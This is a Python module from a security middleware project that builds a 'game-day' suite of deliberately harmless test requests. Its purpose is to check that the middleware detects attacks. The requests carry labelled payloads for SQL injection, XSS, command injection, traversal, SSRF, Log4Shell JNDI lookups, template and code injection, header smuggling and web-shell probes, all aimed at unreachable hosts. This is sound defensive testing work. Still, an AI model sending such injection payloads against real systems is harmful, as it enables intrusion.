"""The game-day suite: one labeled, harmless request per attack technique, and bursts.

Every payload is written to be *recognised* by devsecmw and *harmless* if a real,
vulnerable application acted on it:

- commands only print or read identity (``echo``, ``id``), never write, delete or connect;
- SQL is read-only and false (``AND 1=0``), so a vulnerable query returns nothing;
- every URL names a host that cannot be reached: ``.invalid`` (RFC 6761, never resolves)
  or port 0 on loopback (never connectable); no cloud-metadata address;
- files named are harmless to read (``/dev/null``, ``/etc/hostname``);
- nothing is stored: GET requests, attack text in the query string or a header.

Payloads go into a query parameter of the path the user names (``--path``, default
``/``) or into a header, which devsecmw inspects whatever the route does; the backdoor
probe is a request for a web-shell file name next to that path.

Each request carries the run id twice: the ``X-Devsecmw-Gameday`` header (devsecmw puts
it on the span as ``devsecmw.gameday.run_id``) and the ``devsecmw_gameday`` query
parameter (``<run-id>.<seq>``, visible in access logs and ``url.query``), plus a W3C
``traceparent`` whose trace id the suite chose, which is how a span is matched to the
request that caused it.
"""

from __future__ import annotations

import re
import secrets
import time
from dataclasses import dataclass
from urllib.parse import quote, urlencode

HEADER = "X-Devsecmw-Gameday"
PARAM = "devsecmw_gameday"
#: What devsecmw accepts as a run id on a span (see ``devsecmw.telemetry``): short, plain.
RUN_ID_RE = re.compile(r"[A-Za-z0-9][A-Za-z0-9._-]{0,63}")

#: Rows of the scorecard that are bursts of anomalies rather than attack categories.
BURST_404 = "http_404"
BURST_AUTH = "auth_failure"

#: The auth-failure burst's login form (with ``--auth-path``): a user that does not exist.
AUTH_FORM = b"username=devsecmw-gameday&password=devsecmw-gameday-not-a-password"
USER_AGENT = "devsecmw-gameday (+https://github.com/devsecmw/devsecmw)"
SCANNER_AGENTS = (
    "sqlmap/1.8.2#stable (https://sqlmap.org)",
    "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "gobuster/3.6",
)


@dataclass(frozen=True, slots=True)
class Probe:
    """One request of the suite."""

    #: A signal type of SPEC.md: the attack category, or ``http_404`` / ``auth_failure``.
    category: str
    method: str
    #: Path and query (percent-encoded), the run-id parameter included.
    target: str
    headers: tuple[tuple[str, str], ...] = ()
    body: bytes = b""
    seq: int = 0
    trace_id: str = ""
    span_id: str = ""

    def traceparent(self) -> str:
        return f"00-{self.trace_id}-{self.span_id}-01"


def payloads() -> dict[
    str, list[tuple[tuple[tuple[str, str], ...], tuple[tuple[str, str], ...], str | None]]
]:
    """The attack payloads by category: ``(params, headers, leaf)`` each.

    Kept as plain data so a test can replay every one through the engine.
    """
    g = "devsecmw-gameday"
    return {
        "sqli": [
            ((("q", "' AND 1=0 UNION SELECT NULL--"),), (), None),
            ((("q", "1 AND 1=0 UNION ALL SELECT NULL,NULL"),), (), None),
        ],
        "xss": [
            ((("q", f"<script>console.log('{g}')</script>"),), (), None),
            ((("q", "<img src=x onerror=console.log(1)>"),), (), None),
        ],
        "cmdi": [
            ((("q", "x; id"),), (), None),
            ((("q", "x | uname -a"),), (), None),
        ],
        "traversal": [
            ((("q", "../../../../etc/hostname"),), (), None),
            ((("file", "..\\..\\..\\windows\\win.ini"),), (), None),
        ],
        "rfi": [
            ((("q", "http://gameday.invalid/include.txt?"),), (), None),
            ((("page", "ftp://gameday.invalid/include.txt?"),), (), None),
        ],
        "ssrf": [
            ((("url", "http://127.0.0.1:0/devsecmw-gameday"),), (), None),
            ((("url", "gopher://127.0.0.1:0/_devsecmw-gameday"),), (), None),
        ],
        "xxe": [
            ((("q", '<!DOCTYPE g [<!ENTITY x SYSTEM "file:///dev/null">]><g>&x;</g>'),), (), None),
        ],
        "ssti": [
            ((("q", "{{7*7}}"),), (), None),
            ((("q", "${7*7}"),), (), None),
        ],
        "nosqli": [
            ((("q[$ne]", g),), (), None),
            ((("q", '{"$gt": ""}'),), (), None),
        ],
        "log4shell": [
            ((("q", "shirt"),), (("X-Api-Version", "${jndi:ldap://gameday.invalid/a}"),), None),
            ((("q", "${jndi:dns://gameday.invalid/b}"),), (), None),
        ],
        "php": [
            ((("q", "php://filter/convert.base64-encode/resource=index"),), (), None),
            ((("q", f"<?php echo '{g}'; ?>"),), (), None),
        ],
        "java": [
            ((("q", "${T(java.lang.System).getProperty('java.version')}"),), (), None),
            ((("q", "%{(#a='devsecmw-gameday')}"),), (), None),
        ],
        "nodejs": [
            ((("q", "require('fs').readdirSync('.')"),), (), None),
            ((("q", "process.mainModule.require('os').uptime()"),), (), None),
        ],
        "code_injection": [
            ((("q", "__import__('os').getpid()"),), (), None),
            ((("q", "getattr(__builtins__,'len')"),), (), None),
        ],
        "scanner": [((("q", "shirt"),), (("User-Agent", SCANNER_AGENTS[0]),), None)],
        "protocol": [
            ((("q", f"{g}\r\nSet-Cookie: gameday=1"),), (), None),
        ],
        "session_fixation": [
            ((("PHPSESSID", g),), (), None),
            ((("q", '<script>document.cookie="sid=gameday; domain=.gameday.invalid"</script>'),), (), None),
        ],
        "backdoor": [
            ((("act", "info"),), (), "c99.php"),
            ((), (), "wso.php"),
        ],
    }


def new_run_id() -> str:
    """``gd-YYYYmmddTHHMMSS-xxxxxx`` (UTC): sortable, unique enough, and a valid run id."""
    return f"gd-{time.strftime('%Y%m%dT%H%M%S', time.gmtime())}-{secrets.token_hex(3)}"


def valid_run_id(run_id: str) -> bool:
    return RUN_ID_RE.fullmatch(run_id) is not None


def _leaf_path(path: str, leaf: str) -> str:
    head = path.rsplit("/", 1)[0] if not path.endswith("/") else path.rstrip("/")
    return f"{head}/{leaf}"


def build(
    run_id: str,
    path: str = "/",
    burst: int = 10,
    auth_path: str | None = None,
) -> list[Probe]:
    """The whole suite, in sending order: the 404 and auth bursts, every attack payload, the
    scanner burst.

    ``burst`` requests each for the scanner, 404 and auth-failure bursts. The auth burst
    sends a wrong bearer token: a GET of ``path``, or, with ``auth_path`` (a login form),
    a POST of a user that does not exist; a service that checks credentials answers 401/403.
    """
    if not valid_run_id(run_id):
        raise ValueError(f"invalid run id {run_id!r} (1-64 of A-Z a-z 0-9 . _ -, starting alphanumeric)")
    if not path.startswith("/"):
        raise ValueError(f"path must start with '/', got {path!r}")
    rows: list[tuple[str, str, tuple[tuple[str, str], ...], str]] = []  # category, path, headers, params
    # The anomaly bursts first: in block mode a client flagged for the attacks would have them
    # blocked before the application could answer 404 or 401.
    for i in range(burst):
        rows.append((BURST_404, _leaf_path(path, f"devsecmw-gameday-missing-{i}"), (), ""))
    for i in range(burst):
        bad = (("Authorization", f"Bearer devsecmw-gameday-invalid-{i}"),)
        rows.append((BURST_AUTH, auth_path or path, bad, ""))
    for category in sorted(payloads()):
        for params, headers, leaf in payloads()[category]:
            p = _leaf_path(path, leaf) if leaf else path
            rows.append((category, p, headers, _encode(params)))
    for i in range(burst):
        agent = SCANNER_AGENTS[i % len(SCANNER_AGENTS)]
        rows.append(("scanner", path, (("User-Agent", agent),), _encode((("q", f"probe{i}"),))))
    auth_method, auth_body = ("POST", AUTH_FORM) if auth_path else ("GET", b"")
    probes = []
    for seq, (category, p, headers, query) in enumerate(rows, 1):
        tag = f"{run_id}.{seq}"
        tail = urlencode([(PARAM, tag)], quote_via=quote, safe="")
        target = f"{p}?{query}&{tail}" if query else f"{p}?{tail}"
        auth = category == BURST_AUTH
        probes.append(
            Probe(
                category=category,
                method=auth_method if auth else "GET",
                body=auth_body if auth else b"",
                target=target,
                headers=(*headers, (HEADER, run_id)),
                seq=seq,
                trace_id=f"{secrets.randbits(128) | 1:032x}",
                span_id=f"{secrets.randbits(64) | 1:016x}",
            )
        )
    return probes


def _encode(params: tuple[tuple[str, str], ...]) -> str:
    return urlencode(params, quote_via=quote, safe="")


__all__ = [
    "BURST_404",
    "BURST_AUTH",
    "HEADER",
    "PARAM",
    "SCANNER_AGENTS",
    "Probe",
    "build",
    "new_run_id",
    "payloads",
    "valid_run_id",
]
